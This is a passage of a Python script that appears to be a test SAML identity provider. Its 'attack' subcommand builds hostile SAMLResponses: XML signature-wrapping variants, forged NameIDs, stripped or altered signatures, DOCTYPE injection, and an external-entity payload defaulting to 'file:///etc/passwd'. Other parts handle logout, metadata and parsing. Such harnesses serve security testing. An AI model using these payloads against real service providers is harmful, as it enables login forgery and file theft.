        # The IdP signs a plain assertion whose Advice holds an encrypted one.
        inner = encrypted(name_id=evil).find(EA)

        def advice(xml):
            doc = parse_xml(xml)
            holder = etree.Element(f"{SAML}Advice")
            holder.append(inner)
            doc.find(f"{SAML}Assertion/{SAML}Conditions").addnext(holder)
            return to_xml(doc)

        return idp.build(sign, before_sign_xml=advice)
    elif kind == "retrieval-external":
        root = encrypted()
        keys_beside(root)
        root.find(f".//{DS}RetrievalMethod").set("URI", args.entity_url + "key")
    elif kind == "cipher-reference":
        root = encrypted()
        data = root.find(f".//{XENC}EncryptedData/{XENC}CipherData")
        for child in list(data):
            data.remove(child)
        etree.SubElement(data, f"{XENC}CipherReference", URI=args.entity_url + "cipher")
    elif kind in ("encrypted-wrap", "encrypted-signature-moved"):
        # Rearranged inside the EncryptedAssertion, then encrypted by xmlsec1.
        def rearrange(xml):
            doc = parse_xml(xml)
            signed = doc.find(f"{EA}/{SAML}Assertion")
            forged = evil_copy(signed, evil)
            signed.addprevious(forged)
            if kind == "encrypted-wrap":
                forged.append(signed)
            else:
                insert_after_issuer(forged, take_signature(signed))
                signed.getparent().remove(signed)
            return to_xml(doc)

        root = parse_xml(idp.build("assertion", encrypt_cert=cert, before_encrypt=rearrange))
    else:
        # The plaintext is chosen: bytes encrypted to the SP's certificate.
        signed = parse_xml(idp.build("assertion"))
        text = etree.tostring(assertions(signed)[0]).decode("utf-8")
        if kind == "encrypted-doctype":
            plaintext = f'<!DOCTYPE saml:Assertion [<!ENTITY x "{args.evil_suffix}">]>{text}'
        elif kind == "encrypted-not-assertion":
            plaintext = to_xml(signed)
        else:  # encrypted-undeclared-prefix: saml: declared only on the Response
            plaintext = text.replace(f' xmlns:saml="{NS["saml"]}"', "", 1)
        root = encrypted()
        holder = root.find(EA)
        for child in list(holder):
            holder.remove(child)
        holder.append(idp.encrypt_bytes(plaintext.encode("utf-8"), cert))
    out = to_xml(root)
    return idp.sign_response(out) if sign == "both" else out


ASSERTION_XSW = (
    "wrap-assertion-before",
    "wrap-assertion-after",
    "wrap-inside-signed",
    "wrap-signed-inside-evil",
    "wrap-signature-moved",
    "wrap-signed-in-evil-signature",
    "wrap-signed-in-object",
    "wrap-signed-in-extensions",
    "duplicate-id",
)
RESPONSE_XSW = (
    "wrap-response-in-signature",
    "wrap-response-detached",
    "response-signature-only-wraps",
    "response-signature-appended",
)
ANY_SIGN = ("assertion", "both", "response")
ATTACKS = {
    **{k: {"sign": ("assertion",)} for k in ASSERTION_XSW},
    **{k: {"sign": ("response",)} for k in RESPONSE_XSW},
    "wrap-in-advice": {"sign": ("assertion", "both"), "encrypt": True},
    "wrap-beside-encrypted": {"sign": ("assertion",), "encrypt": "required"},
    "two-assertions": {"sign": ("assertion", "both")},
    "comment-in-nameid": {"sign": ANY_SIGN, "encrypt": True},
    "stripped-signature": {"sign": ANY_SIGN, "encrypt": True},
    "altered-byte": {"sign": ANY_SIGN, "encrypt": True},
    "other-key": {"sign": ANY_SIGN, "encrypt": True},
    "doctype": {"sign": ANY_SIGN},
    "external-entity": {"sign": ANY_SIGN},
    "sha1": {"sign": ANY_SIGN, "encrypt": True},
    "empty-reference-uri": {"sign": ("assertion",), "encrypt": True},
    **{k: {"sign": ("assertion", "both") if k in ("two-encrypted", "encrypted-in-advice") else ("assertion",),
           "encrypt": "required"} for k in ENCRYPTED_ATTACKS},
}


# ------------------------------------------------------------------- logout


def logout_server(args):
    return make_server(args.idp_entity_id, args.key, args.cert, args.sp_entity_id, args.destination, args.destination)


def deliver(args, server, message, msg_id, is_response):
    """Prints the message as the chosen binding carries it (JSON)."""
    kind = "SAMLResponse" if is_response else "SAMLRequest"
    if args.binding == "redirect":
        info = server.apply_binding(
            BINDING_HTTP_REDIRECT,
            str(message),
            args.destination,
            args.relay_state or "",
            response=is_response,
            sign=not args.unsigned,
            sigalg=SIGNATURE_ALGS[args.signature_alg],
        )
        url = dict(info["headers"])["Location"]
        print(json.dumps({"id": msg_id, "binding": "redirect", "url": url}))
    else:
        out = {"id": msg_id, "binding": "post", "url": args.destination, kind: b64(to_xml(parse_xml(str(message))))}
        if args.relay_state:
            out["RelayState"] = args.relay_state
        print(json.dumps(out))


def cmd_logout_request(args):
    server = logout_server(args)
    sign_xml = args.binding == "post" and not args.unsigned
    msg_id, request = server.create_logout_request(
        args.destination,
        args.sp_entity_id,
        name_id=saml.NameID(format=NAME_ID_FORMATS[args.name_id_format], text=args.name_id),
        session_indexes=args.session_index or None,
        sign=sign_xml,
        sign_alg=SIGNATURE_ALGS[args.signature_alg],
        digest_alg=DIGEST_ALGS[args.digest_alg],
    )
    deliver(args, server, request, msg_id, is_response=False)


def cmd_logout_response(args):
    server = logout_server(args)
    request = samlp.LogoutRequest(
        id=args.in_response_to,
        issuer=saml.Issuer(text=args.sp_entity_id),
        version="2.0",
        issue_instant="2000-01-01T00:00:00Z",
    )
    status = samlp.Status(status_code=samlp.StatusCode(value=STATUSES[args.status][0]))
    binding = BINDING_HTTP_REDIRECT if args.binding == "redirect" else BINDING_HTTP_POST
    response = server.create_logout_response(
        request,
        bindings=[binding],
        status=status,
        sign=args.binding == "post" and not args.unsigned,
        sign_alg=SIGNATURE_ALGS[args.signature_alg],
        digest_alg=DIGEST_ALGS[args.digest_alg],
    )
    msg_id = response.id if hasattr(response, "id") else parse_xml(str(response)).get("ID")
    deliver(args, server, response, msg_id, is_response=True)


def cmd_read_sp_metadata(args):
    """An SP's metadata as pysaml2's metadata store reads it (JSON): the
    endpoints and certificates an IdP configured with the document uses."""
    text = read_text(args.file, "SP metadata")
    try:
        entity_id = parse_xml(text).get("entityID")
    except etree.XMLSyntaxError as e:
        die(f"the SP metadata is not XML: {e}")
    cfg = IdPConfig()
    cfg.load({"entityid": "https://idp.example.test/metadata", "xmlsec_binary": xmlsec_binary(),
              "metadata": {"inline": [text]}})
    store = cfg.metadata
    if entity_id not in store.keys():
        die(f"pysaml2 read no entity {entity_id!r} from the SP metadata")

    def endpoints(found):
        # pysaml2 answers {binding: [endpoint...]} for logout, a list for ACS.
        found = [e for es in found.values() for e in es] if isinstance(found, dict) else found
        return [{"binding": e["binding"], "location": e["location"]} for e in found]

    print(json.dumps({
        "entity_id": entity_id,
        "single_logout_service": endpoints(store.single_logout_service(entity_id, typ="spsso")),
        "assertion_consumer_service": endpoints(store.assertion_consumer_service(entity_id)),
        "signing_certificates": len(store.certs(entity_id, "spsso", "signing")),
        "encryption_certificates": len(store.certs(entity_id, "spsso", "encryption")),
        "name_id_formats": [f["text"] for f in store[entity_id]["spsso_descriptor"][0].get("name_id_format", [])],
    }))


# -------------------------------------------------------------------- parse

SIG_VERIFY = {
    SIGNATURE_ALGS["rsa-sha1"]: hashes.SHA1,
    SIGNATURE_ALGS["rsa-sha256"]: hashes.SHA256,
    SIGNATURE_ALGS["rsa-sha512"]: hashes.SHA512,
}


def raw_query(url):
    """The query's parameters as sent (still percent-encoded), by name."""
    query = urllib.parse.urlsplit(url).query
    raw = {}
    for part in query.split("&"):
        if part:
            name, _, value = part.partition("=")
            raw.setdefault(urllib.parse.unquote_plus(name), value)
    return raw


def cmd_parse(args):
    """Decodes a message an SP sent with HTTP-Redirect (or HTTP-POST)."""
    raw = {}
    signature_valid = None
    if args.url:
        raw = raw_query(args.url)
        kind = "SAMLRequest" if "SAMLRequest" in raw else "SAMLResponse" if "SAMLResponse" in raw else None
        if not kind:
            die("the URL has neither SAMLRequest nor SAMLResponse")
        value = urllib.parse.unquote_plus(raw[kind])
        try:
            xml = zlib.decompress(base64.b64decode(value, validate=True), -15).decode("utf-8")
        except (ValueError, zlib.error) as e:
            die(f"{kind} is not base64 of DEFLATEd XML: {e}")
        sig_alg = urllib.parse.unquote_plus(raw["SigAlg"]) if "SigAlg" in raw else None
        if args.sp_cert and "Signature" in raw:
            signed = "&".join(f"{k}={raw[k]}" for k in (kind, "RelayState", "SigAlg") if k in raw)
            hash_cls = SIG_VERIFY.get(sig_alg)
            signature_valid = False
            if hash_cls:
                try:
                    load_cert(args.sp_cert).public_key().verify(
                        base64.b64decode(urllib.parse.unquote_plus(raw["Signature"])),
                        signed.encode("ascii"),
                        padding.PKCS1v15(),
                        hash_cls(),
                    )
                    signature_valid = True
                except Exception:  # noqa: BLE001 - any failure is "does not verify"
                    signature_valid = False
        elif args.sp_cert:
            signature_valid = False
    else:
        try:
            xml = base64.b64decode(args.post, validate=True).decode("utf-8")
        except ValueError as e:
            die(f"--post is not base64: {e}")
        sig_alg = None
    try:
        root = parse_xml(xml)
    except etree.XMLSyntaxError as e:
        die(f"the message is not XML: {e}")
    local = etree.QName(root).localname
    if args.command == "parse-authn-request" and local != "AuthnRequest":
        die(f"expected an AuthnRequest, got {local}")
    xml_sig = root.find(f"{DS}Signature")
    if xml_sig is not None:
        sig_alg = xml_sig.find(f"{DS}SignedInfo/{DS}SignatureMethod").get("Algorithm")
        if args.sp_cert:
            signature_valid = xmlsec_verify(xml, args.sp_cert, f"{etree.QName(root).namespace}:{local}")
    elif args.post and args.sp_cert:
        signature_valid = False
    issuer = root.find(f"{SAML}Issuer")
    policy = root.find(f"{SAMLP}NameIDPolicy")
    name_id = root.find(f"{SAML}NameID")
    status = root.find(f"{SAMLP}Status/{SAMLP}StatusCode")
    out = {
        "type": local,
        "id": root.get("ID"),
        "issuer": issuer.text if issuer is not None else None,
        "destination": root.get("Destination"),
        "issue_instant": root.get("IssueInstant"),
        "version": root.get("Version"),
        "relay_state": urllib.parse.unquote_plus(raw["RelayState"]) if "RelayState" in raw else None,
        "sig_alg": sig_alg,
        "signed": "Signature" in raw or xml_sig is not None,
        "signature_valid": signature_valid,
        "xml": xml,
    }
    if local == "AuthnRequest":
        out.update(
            {
                "assertion_consumer_service_url": root.get("AssertionConsumerServiceURL"),
                "protocol_binding": root.get("ProtocolBinding"),
                "force_authn": root.get("ForceAuthn"),
                "is_passive": root.get("IsPassive"),
                "name_id_policy_format": policy.get("Format") if policy is not None else None,
                "name_id_policy_allow_create": policy.get("AllowCreate") if policy is not None else None,
            }
        )
    if local == "LogoutRequest":
        out["name_id"] = name_id.text if name_id is not None else None
        out["session_indexes"] = [s.text for s in root.findall(f"{SAMLP}SessionIndex")]
    if local == "LogoutResponse":
        out["in_response_to"] = root.get("InResponseTo")
        out["status"] = status.get("Value") if status is not None else None
    print(json.dumps(out, indent=1))


def xmlsec_verify(xml, cert, id_node):
    with tempfile.NamedTemporaryFile("w", suffix=".xml") as f:
        f.write(xml)
        f.flush()
        result = subprocess.run(
            [
                xmlsec_binary(),
                "--verify",
                "--id-attr:ID",
                id_node,
                "--pubkey-cert-pem",
                cert,
                "--enabled-key-data",
                "raw-x509-cert",
                f.name,
            ],
            capture_output=True,
            check=False,
        )
    return result.returncode == 0


# ---------------------------------------------------------------------- CLI


def response_options(p):
    p.add_argument("--idp-entity-id", default="https://idp.example.test/metadata")
    p.add_argument("--key", help="the IdP's private key (PEM)")
    p.add_argument("--cert", help="the IdP's certificate (PEM)")
    p.add_argument("--sp-entity-id", default="https://sp.example.test/saml/metadata", help="the Audience")
    p.add_argument("--acs-url", default="https://sp.example.test/saml/consume", help="Destination and Recipient")
    p.add_argument("--destination", help="a Destination other than --acs-url")
    p.add_argument("--recipient", help="a SubjectConfirmationData Recipient other than --acs-url")
    p.add_argument("--name-id", default="alice@example.com")
    p.add_argument("--name-id-format", choices=NAME_ID_FORMATS, default="email")
    p.add_argument("--in-response-to", help="the AuthnRequest's ID (omit for IdP-initiated)")
    p.add_argument(
        "--attribute",
        action="append",
        default=[],
        metavar="NAME=VALUE",
        help="repeatable; a repeated NAME is one multi-valued attribute",
    )
    p.add_argument("--attribute-name-format", choices=ATTRIBUTE_NAME_FORMATS, default="unspecified")
    p.add_argument("--authn-context", default="urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport")
    p.add_argument("--sign", choices=("response", "assertion", "both", "none"), help="default: assertion")
    p.add_argument("--signature-alg", choices=SIGNATURE_ALGS, default="rsa-sha256")
    p.add_argument("--digest-alg", choices=DIGEST_ALGS, default="sha256")
    p.add_argument("--now", help="fix the current time (ISO 8601); default: the clock")
    p.add_argument("--not-before-offset", type=int, default=0, metavar="SECONDS")
    p.add_argument("--not-on-or-after-offset", type=int, default=300, metavar="SECONDS")
    p.add_argument("--session-not-on-or-after-offset", type=int, metavar="SECONDS")
    p.add_argument("--session-index")
    p.add_argument("--status", choices=STATUSES, default="success")
    p.add_argument("--status-message")
    p.add_argument("--encrypt-cert", help="the SP's certificate: send an EncryptedAssertion")
    p.add_argument("--encrypt-alg", choices=ENCRYPT_ALGS, default="aes128-cbc")
    p.add_argument("--key-transport", choices=KEY_TRANSPORTS, default="rsa-oaep-mgf1p")
    p.add_argument("--oaep-digest", choices=OAEP_HASHES, default="sha256", help="for --key-transport rsa-oaep")
    p.add_argument("--oaep-mgf", choices=OAEP_HASHES, default="sha1", help="for --key-transport rsa-oaep")
    p.add_argument(
        "--encrypted-key-placement",
        choices=("inside", "sibling"),
        default="inside",
        help="the EncryptedKey in the EncryptedData's KeyInfo, or beside it named by a RetrievalMethod",
    )
    p.add_argument("--raw", action="store_true", help="print the XML instead of base64")


def logout_options(p):
    p.add_argument("--idp-entity-id", default="https://idp.example.test/metadata")
    p.add_argument("--key", required=True)
    p.add_argument("--cert", required=True)
    p.add_argument("--sp-entity-id", default="https://sp.example.test/saml/metadata")
    p.add_argument("--destination", required=True, help="the SP's single logout URL")
    p.add_argument("--binding", choices=("redirect", "post"), default="redirect")
    p.add_argument("--relay-state")
    p.add_argument("--unsigned", action="store_true", help="do not sign (query or XML)")
    p.add_argument("--signature-alg", choices=SIGNATURE_ALGS, default="rsa-sha256")
    p.add_argument("--digest-alg", choices=DIGEST_ALGS, default="sha256")


def parser():
    top = argparse.ArgumentParser(prog="idp.py", description=__doc__.split("\n\n")[0])
    sub = top.add_subparsers(dest="command", required=True)

    p = sub.add_parser("keys", help="an RSA-2048 key and a self-signed certificate")
    p.add_argument("--out", required=True)
    p.add_argument("--name", default="idp")
    p.add_argument("--cn")
    p.add_argument("--days", type=int, default=3650)
    p.add_argument("--expired", action="store_true", help="a certificate that expired yesterday")
    p.set_defaults(func=cmd_keys)

    p = sub.add_parser("metadata", help="IdP metadata XML")
    p.add_argument("--entity-id", required=True)
    p.add_argument("--sso-url", required=True)
    p.add_argument("--slo-url")
    p.add_argument("--cert", action="append", required=True, help="repeatable: one signing KeyDescriptor each")
    p.add_argument("--valid-until")
    p.add_argument("--cache-duration")
    p.add_argument("--want-authn-requests-signed", action="store_true")
    p.add_argument("--sign-key", help="sign the metadata with this key")
    p.add_argument("--sign-cert")
    p.add_argument("--signature-alg", choices=SIGNATURE_ALGS, default="rsa-sha256")
    p.add_argument("--digest-alg", choices=DIGEST_ALGS, default="sha256")
    p.set_defaults(func=cmd_metadata)

    p = sub.add_parser("response", help="a SAMLResponse (base64)")
    response_options(p)
    p.set_defaults(func=cmd_response)

    p = sub.add_parser("attack", help="a hostile SAMLResponse (base64); see README.md")
    p.add_argument("--kind", required=True, choices=ATTACKS)
    response_options(p)
    p.add_argument("--evil-name-id", default="attacker@evil.test")
    p.add_argument("--evil-suffix", default=".evil.test", help="for comment-in-nameid and doctype")
    p.add_argument("--other-key", help="for other-key (default: a fresh key)")
    p.add_argument("--other-cert")
    p.add_argument("--entity-file", default="file:///etc/passwd", help="for external-entity")
    p.add_argument(
        "--entity-url", default="http://127.0.0.1:9/", help="for external-entity, retrieval-external, cipher-reference"
    )
    p.set_defaults(func=cmd_attack)

    p = sub.add_parser("logout-request", help="an IdP-initiated LogoutRequest (JSON)")
    logout_options(p)
    p.add_argument("--name-id", default="alice@example.com")
    p.add_argument("--name-id-format", choices=NAME_ID_FORMATS, default="email")
    p.add_argument("--session-index", action="append", default=[])
    p.set_defaults(func=cmd_logout_request)

    p = sub.add_parser("logout-response", help="a LogoutResponse to the SP's LogoutRequest (JSON)")
    logout_options(p)
    p.add_argument("--in-response-to", required=True)
    p.add_argument("--status", choices=STATUSES, default="success")
    p.set_defaults(func=cmd_logout_response)

    p = sub.add_parser("read-sp-metadata", help="an SP's metadata as pysaml2 reads it (JSON)")
    p.add_argument("--file", required=True)
    p.set_defaults(func=cmd_read_sp_metadata)

    for name, what in (("parse-authn-request", "an AuthnRequest"), ("parse-redirect", "any SAML message")):
        p = sub.add_parser(name, help=f"decode {what} an SP sent (JSON)")
        src = p.add_mutually_exclusive_group(required=True)
        src.add_argument("--url", help="the HTTP-Redirect URL")
        src.add_argument("--post", metavar="BASE64", help="the HTTP-POST form value")
        p.add_argument("--sp-cert", help="verify the signature with this certificate")
        p.set_defaults(func=cmd_parse)
    return top


def main(argv=None):
    args = parser().parse_args(argv)
    try:
        args.func(args)
    except UsageError as e:
        print(f"idp.py: {e}", file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main())
